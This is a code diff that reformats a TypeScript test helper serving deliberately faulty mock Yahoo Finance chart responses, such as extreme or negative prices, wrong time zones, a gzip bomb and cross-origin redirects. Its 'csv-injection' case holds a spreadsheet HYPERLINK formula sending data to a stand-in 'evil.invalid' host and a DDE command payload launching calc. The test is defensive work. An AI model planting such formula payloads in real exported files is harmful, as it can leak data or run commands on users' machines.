@@ -101,7 +101,9 @@ const NEW_YORK = 'America/New_York'
 /** Epoch seconds of 09:30 New York on a UTC date (EST/EDT from the zone, as Yahoo stamps daily bars). */
 function nineThirtyNewYork(dayMs: number): number {
   const probe = new Date(dayMs + 14.5 * 3600_000)
-  const hour = Number(new Intl.DateTimeFormat('en-US', { timeZone: NEW_YORK, hour: 'numeric', hourCycle: 'h23' }).format(probe))
+  const hour = Number(
+    new Intl.DateTimeFormat('en-US', { timeZone: NEW_YORK, hour: 'numeric', hourCycle: 'h23' }).format(probe),
+  )
   // 14:30 UTC is 09:30 EST (hour 9) or 10:30 EDT (hour 10).
   return Math.floor((probe.getTime() - (hour - 9) * 3600_000) / 1000)
 }
@@ -116,14 +118,37 @@ export function syntheticRows(period1: number, period2: number, limit = 400): Sy
     const ts = nineThirtyNewYork(day)
     if (ts < period1 || ts >= period2) continue
     const close = SYNTHETIC_BASE_PRICE + rows.length * 0.05
-    rows.push({ ts, open: close - 0.2, high: close + 1, low: close - 1, close, volume: 1_000_000 + rows.length, adjclose: close })
+    rows.push({
+      ts,
+      open: close - 0.2,
+      high: close + 1,
+      low: close - 1,
+      close,
+      volume: 1_000_000 + rows.length,
+      adjclose: close,
+    })
   }
   return rows
 }
 
 function chartBody(symbol: string, rows: readonly SyntheticRow[], meta: Meta = {}): string {
-  const fullMeta = { currency: 'USD', symbol, exchangeTimezoneName: NEW_YORK, gmtoffset: -18000, instrumentType: 'EQUITY', longName: `Synthetic ${symbol}`, ...meta }
-  return JSON.stringify(chartEnvelope(chartResultFromRows(fullMeta, rows.map((r) => ({ ...r, adj: r.adjclose })))))
+  const fullMeta = {
+    currency: 'USD',
+    symbol,
+    exchangeTimezoneName: NEW_YORK,
+    gmtoffset: -18000,
+    instrumentType: 'EQUITY',
+    longName: `Synthetic ${symbol}`,
+    ...meta,
+  }
+  return JSON.stringify(
+    chartEnvelope(
+      chartResultFromRows(
+        fullMeta,
+        rows.map((r) => ({ ...r, adj: r.adjclose })),
+      ),
+    ),
+  )
 }
 
 /** The rows a fault breaks: the 2nd and 3rd session of the window (the first stays a clean base). */
@@ -132,34 +157,72 @@ function breakRows(rows: SyntheticRow[], change: (row: SyntheticRow, k: number) 
 }
 
 /** Which fault a synthetic body carries, for the faults that are a JSON payload (the rest are transport faults). */
-export function faultPayload(fault: HostileFault, symbol: string, period1: number, period2: number): string | undefined {
+export function faultPayload(
+  fault: HostileFault,
+  symbol: string,
+  period1: number,
+  period2: number,
+): string | undefined {
   const rows = syntheticRows(period1, period2)
-  const all = (price: number) => (row: SyntheticRow) => ({ ...row, open: price, high: price, low: price, close: price, adjclose: price })
+  const all = (price: number) => (row: SyntheticRow) => ({
+    ...row,
+    open: price,
+    high: price,
+    low: price,
+    close: price,
+    adjclose: price,
+  })
   switch (fault) {
     case 'ok':
       return chartBody(symbol, rows)
     case 'extreme-1e300':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, high: 1e300, close: 1e300, adjclose: 1e300 })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, high: 1e300, close: 1e300, adjclose: 1e300 })),
+      )
     case 'extreme-tiny':
       return chartBody(symbol, breakRows(rows, all(5e-324)))
     case 'extreme-1e19':
-      return chartBody(symbol, breakRows(rows, (r, k) => all(k === 1 ? 1e19 : 1e19 + 4096)(r)))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r, k) => all(k === 1 ? 1e19 : 1e19 + 4096)(r)),
+      )
     case 'negative-price':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, low: -r.low })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, low: -r.low })),
+      )
     case 'zero-price':
       return chartBody(symbol, breakRows(rows, all(0)))
     case 'price-1e308':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, high: 1e308 })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, high: 1e308 })),
+      )
     case 'high-below-low':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, high: r.low - 1 })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, high: r.low - 1 })),
+      )
     case 'fractional-volume':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, volume: r.volume + 0.5 })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, volume: r.volume + 0.5 })),
+      )
     case 'negative-volume':
-      return chartBody(symbol, breakRows(rows, (r) => ({ ...r, volume: -r.volume })))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r) => ({ ...r, volume: -r.volume })),
+      )
     case 'duplicate-timestamps': {
       // The 3rd session repeats the 2nd's timestamp with other prices; a later row must not win silently.
       const first = rows[1]
-      return chartBody(symbol, breakRows(rows, (r, k) => (k === 2 && first ? { ...r, ts: first.ts, close: r.close + 5, high: r.high + 5 } : r)))
+      return chartBody(
+        symbol,
+        breakRows(rows, (r, k) =>
+          k === 2 && first ? { ...r, ts: first.ts, close: r.close + 5, high: r.high + 5 } : r,
+        ),
+      )
     }
     case 'wrong-zone':
       // 14 hours ahead of New York: Friday's 09:30 lands on Saturday.
@@ -167,7 +230,9 @@ export function faultPayload(fault: HostileFault, symbol: string, period1: numbe
     case 'unknown-zone':
       return chartBody(symbol, rows, { exchangeTimezoneName: 'Mars/Olympus_Mons' })
     case 'wrong-gmtoffset': {
-      const body = JSON.parse(chartBody(symbol, rows, { gmtoffset: 14 * 3600 })) as { chart: { result: [{ meta: Meta }] } }
+      const body = JSON.parse(chartBody(symbol, rows, { gmtoffset: 14 * 3600 })) as {
+        chart: { result: [{ meta: Meta }] }
+      }
       delete body.chart.result[0].meta.exchangeTimezoneName
       return JSON.stringify(body)
     }
@@ -175,12 +240,20 @@ export function faultPayload(fault: HostileFault, symbol: string, period1: numbe
       // More sessions than any window holds, in a body small enough to pass the byte cap.
       return chartBody(
         symbol,
-        Array.from({ length: MANY_TIMESTAMPS }, (_, i) => ({ ts: period1 + i * 3600, open: 100, high: 101, low: 99, close: 100, volume: 1, adjclose: 100 })),
+        Array.from({ length: MANY_TIMESTAMPS }, (_, i) => ({
+          ts: period1 + i * 3600,
+          open: 100,
+          high: 101,
+          low: 99,
+          close: 100,
+          volume: 1,
+          adjclose: 100,
+        })),
       )
     case 'csv-injection':
       return chartBody(symbol, rows, {
         currency: '=HYPERLINK("http://evil.invalid/?leak","click")\r\nNVDA,2025-01-02,1,1,1,1,1,1,USD,yahoo',
-        longName: '=cmd|\' /C calc\'!A0',
+        longName: "=cmd|' /C calc'!A0",
       })
     default:
       return undefined
@@ -188,7 +261,12 @@ export function faultPayload(fault: HostileFault, symbol: string, period1: numbe
 }
 
 /** Writes `total` bytes made by `chunkAt`, honouring backpressure, and stops when the client goes away. */
-function streamBytes(res: ServerResponse, total: number, chunkAt: (offset: number) => Buffer, sink: NodeJS.WritableStream = res): void {
+function streamBytes(
+  res: ServerResponse,
+  total: number,
+  chunkAt: (offset: number) => Buffer,
+  sink: NodeJS.WritableStream = res,
+): void {
   let sent = 0
   const pump = () => {
     while (sent < total && !res.destroyed) {
@@ -226,7 +304,9 @@ function hugeJsonChunk(prefix: Buffer) {
 
 function millionTimestampsChunks(symbol: string): (offset: number) => Buffer {
   // `{"chart":{"result":[{"meta":{...},"timestamp":[t,t,...` then the quote arrays, generated row by row.
-  const head = Buffer.from(`{"chart":{"result":[{"meta":{"currency":"USD","symbol":${JSON.stringify(symbol)},"exchangeTimezoneName":"America/New_York"},"timestamp":[`)
+  const head = Buffer.from(
+    `{"chart":{"result":[{"meta":{"currency":"USD","symbol":${JSON.stringify(symbol)},"exchangeTimezoneName":"America/New_York"},"timestamp":[`,
+  )
   const row = Buffer.from('1737469800,'.repeat(6_000))
   return (offset) => (offset === 0 ? head : row)
 }
@@ -235,7 +315,13 @@ function millionTimestampsChunks(symbol: string): (offset: number) => Buffer {
  * Answers one chart request with `fault`. Exported so the mock Yahoo server can serve the same faults on its own
  * port (POST /__fault/<fault> there), which is what the e2e servers already talk to.
  */
-export function serveHostileChart(req: IncomingMessage, res: ServerResponse, fault: HostileFault, symbol: string, url: URL): void {
+export function serveHostileChart(
+  req: IncomingMessage,
+  res: ServerResponse,
+  fault: HostileFault,
+  symbol: string,
+  url: URL,
+): void {
   const port = req.socket.localPort ?? 0
   const period1 = Number(url.searchParams.get('period1') ?? 0)
   const period2 = Number(url.searchParams.get('period2') ?? 0)
@@ -262,7 +348,11 @@ export function serveHostileChart(req: IncomingMessage, res: ServerResponse, fau
       // two members are made with zlib, once; the body is streamed from them.
       const { head, member } = gzipBombParts()
       const total = head.length + (GZIP_BOMB_INFLATED_BYTES / GZIP_MEMBER_BYTES) * member.length
-      res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': String(total) })
+      res.writeHead(200, {
+        'content-type': 'application/json',
+        'content-encoding': 'gzip',
+        'content-length': String(total),
+      })
       streamBytes(res, total, (offset) => (offset === 0 ? head : member))
       return
     }
@@ -287,7 +377,9 @@ export function serveHostileChart(req: IncomingMessage, res: ServerResponse, fau
     }
     case 'redirect-cross-origin': {
       // Another origin (localhost is not 127.0.0.1) that this server also answers, so a follow would be seen.
-      res.writeHead(302, { location: `http://localhost:${port}/ok/v8/finance/chart/${encodeURIComponent(symbol)}${url.search}` })
+      res.writeHead(302, {
+        location: `http://localhost:${port}/ok/v8/finance/chart/${encodeURIComponent(symbol)}${url.search}`,
+      })
       res.end()
       return
     }
